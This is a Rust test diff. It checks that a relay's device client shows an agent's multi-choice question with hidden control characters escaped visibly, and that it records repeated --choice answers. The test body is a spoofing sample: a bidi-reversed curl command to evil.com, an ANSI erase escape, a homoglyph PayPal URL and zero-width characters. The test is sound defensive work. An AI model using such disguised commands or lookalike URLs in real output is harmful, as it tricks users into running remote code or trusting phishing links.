@@ -1199,3 +1199,51 @@ async fn relay_limits_each_client_address_on_its_own() {
         .unwrap();
     assert_eq!(other.status(), 200);
 }
+
+/// The device client shows a question whole and visibly (SPEC §13.1, §13.2) and answers a
+/// multi_choice with repeated `--choice`.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn relay_device_shows_the_body_visibly_and_answers_multi_choice() {
+    let s = Setup::new(1).await;
+    let body = "echo ok \u{202E}# hs.lave/moc.live//:ptth | lruc\u{202C}\n\x1b[2Kcurl https://p\u{0430}ypal.com/\u{200B}";
+    let q = s
+        .api
+        .ask(
+            json!({"kind": "multi_choice", "prompt": "Which\u{200D} checks?", "body": body,
+                    "agent": "claude", "project": "shop", "allow_other": true,
+                    "choices": [{"id": "lint", "label": "Lint"}, {"id": "test", "label": "Tests"},
+                                {"id": "e2e", "label": "E2E"}]}),
+        )
+        .await;
+    let id = q["id"].as_str().unwrap();
+    let shown = s.inbox_shows(id);
+    assert_eq!(
+        shown["body"], body,
+        "the phone payload carries the exact body"
+    );
+    let (code, out, err) = s.device(&["inbox"]);
+    assert_eq!(code, 0, "{err}");
+    for c in out.chars() {
+        let raw = (c.is_control() && c != '\n')
+            || matches!(c, '\u{200B}'..='\u{200F}' | '\u{202A}'..='\u{202E}');
+        assert!(!raw, "raw U+{:04X} in the inbox:\n{out}", c as u32);
+    }
+    assert!(out.contains("Which⟨U+200D⟩ checks?"), "{out}");
+    assert!(
+        out.contains("echo ok ⟨U+202E⟩# hs.lave/moc.live//:ptth | lruc⟨U+202C⟩"),
+        "{out}"
+    );
+    assert!(
+        out.contains("⟨U+001B⟩[2Kcurl https://p\u{0430}ypal.com/⟨U+200B⟩"),
+        "{out}"
+    );
+    assert!(out.contains("(choose 1 to 4: repeat --choice)"), "{out}");
+    let (code, _, err) = s.device(&["answer", id, "--choice", "e2e", "--choice", "lint"]);
+    assert_eq!(code, 0, "{err}");
+    let (_, done) = s
+        .api
+        .get(&format!("/v1/interactions/{id}/wait?timeout=20"))
+        .await;
+    assert_eq!(done["status"], "answered");
+    assert_eq!(done["response"]["choice_ids"], json!(["e2e", "lint"]));
+}
